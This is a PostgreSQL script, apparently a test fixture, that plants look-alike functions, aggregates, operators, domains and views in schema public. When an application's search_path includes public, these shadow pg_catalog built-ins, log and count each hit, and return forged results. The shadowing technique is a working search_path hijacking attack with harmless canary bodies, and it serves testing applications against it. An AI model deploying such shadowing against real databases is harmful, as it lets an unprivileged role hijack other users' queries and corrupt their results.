-- What a role that may create objects in schema public can lay for an application whose search_path has public: functions, operators
-- and types that PostgreSQL would choose rather than its own, because they fit the tables of prey.sql better or because public is
-- searched first. Each counts in public.sprung when it runs, and returns something forged.
CREATE SEQUENCE public.sprung;
GRANT USAGE ON SEQUENCE public.sprung TO PUBLIC;
CREATE FUNCTION public.spring(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS
    $$ BEGIN PERFORM nextval('public.sprung'); RAISE LOG 'sprung: %', what; RETURN true; END $$;
CREATE FUNCTION public.collected(jsonb, anyelement) RETURNS jsonb LANGUAGE plpgsql SET search_path = pg_catalog AS
    $$ BEGIN PERFORM public.spring('aggregate'); RETURN '["forged"]'; END $$;
CREATE AGGREGATE public.jsonb_agg(jsonb) (SFUNC = public.collected, STYPE = jsonb);
CREATE AGGREGATE public.json_agg(json) (SFUNC = public.collected, STYPE = jsonb);
CREATE DOMAIN public.shade AS text CHECK (public.spring('type shade'));
DO $$
DECLARE
    body text := 'LANGUAGE plpgsql AS $f$BEGIN PERFORM public.spring(%L); RETURN %s; END$f$';
    o record;
BEGIN
    SET LOCAL search_path = pg_catalog;
    SET LOCAL client_min_messages = error;
    FOR o IN SELECT oid FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace LOOP
        EXECUTE format('CREATE FUNCTION public.to_jsonb(%s) RETURNS jsonb ', o.oid::regclass) || format(body, 'to_jsonb(row)', '''{"forged": true}''');
    END LOOP;
    EXECUTE 'CREATE FUNCTION public.to_jsonb(record) RETURNS jsonb ' || format(body, 'to_jsonb(record)', '''{"forged": true}''');
    EXECUTE 'CREATE FUNCTION public.quote_ident(name) RETURNS text ' || format(body, 'quote_ident', '''public''');
    EXECUTE 'CREATE FUNCTION public.format(text, name, name) RETURNS text ' || format(body, 'format', '''public.prey''');
    EXECUTE 'CREATE FUNCTION public.unnest(name[]) RETURNS name ' || format(body, 'unnest', '''a''');
    EXECUTE 'CREATE FUNCTION public.unnest(text[]) RETURNS text ' || format(body, 'unnest', '''a''');
    -- operators whose operands fit exactly, where those of pg_catalog only come near
    FOR o IN SELECT * FROM (VALUES ('=', 'public.code', 'public.code'), ('=', 'public.mood', 'public.mood'), ('=', 'app.shade', 'app.shade'),
            ('=', 'varchar', 'varchar'), ('=', 'bpchar', 'varchar'), ('=', 'oid', 'regclass'), ('=', 'regclass', 'oid'), ('=', 'name', 'varchar'),
            ('=', 'public.code', 'text'), ('=', 'int', 'text')) AS v (name, l, r) LOOP
        EXECUTE format('CREATE FUNCTION public.trap(a %s, b %s) RETURNS boolean ', o.l, o.r) || format(body, 'operator', 'true');
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.trap)', o.name, o.l, o.r);
    END LOOP;
    EXECUTE 'CREATE FUNCTION public.joined(text, oid) RETURNS text ' || format(body, 'operator', '''forged''');
    EXECUTE 'CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = oid, FUNCTION = public.joined)';
    EXECUTE 'CREATE FUNCTION public.times(numeric, int) RETURNS numeric ' || format(body, 'operator', '1');
    EXECUTE 'CREATE OPERATOR public.* (LEFTARG = numeric, RIGHTARG = int, FUNCTION = public.times)';
    EXECUTE 'CREATE FUNCTION public.inner_text(jsonb, jsonb) RETURNS text ' || format(body, 'operator', '''forged''');
    EXECUTE 'CREATE OPERATOR public.->> (LEFTARG = jsonb, RIGHTARG = jsonb, FUNCTION = public.inner_text)';
    -- copies of what pg_catalog has, for a search_path in which public comes first; the one left out is called by a driver
    FOR o IN SELECT p.oid, p.proname, p.proretset, p.prorettype, pg_get_function_identity_arguments(p.oid) AS arguments FROM pg_proc p
              WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind <> 'p' AND proname <> 'pg_advisory_unlock_all' LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s%s ', o.proname, o.arguments, CASE WHEN o.proretset THEN 'SETOF ' ELSE '' END,
                           o.prorettype::regtype) || format(body, o.proname, CASE WHEN o.proretset THEN '' ELSE 'NULL' END);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR o IN SELECT oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result FROM pg_operator
              WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft <> 0 LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION public.copy(a %s, b %s) RETURNS %s ', o.l, o.r, o.result) || format(body, 'operator ' || o.oprname, 'NULL');
            EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.copy)', o.oprname, o.l, o.r);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR o IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typcategory <> 'A' LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN public.%I AS pg_catalog.%1$I CHECK (public.spring(''type''))', o.typname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR o IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
        EXECUTE format('CREATE VIEW public.%I AS SELECT public.spring(''view'') AS sprung', o.relname);
        EXECUTE format('GRANT SELECT ON public.%I TO PUBLIC', o.relname);
    END LOOP;
END $$;
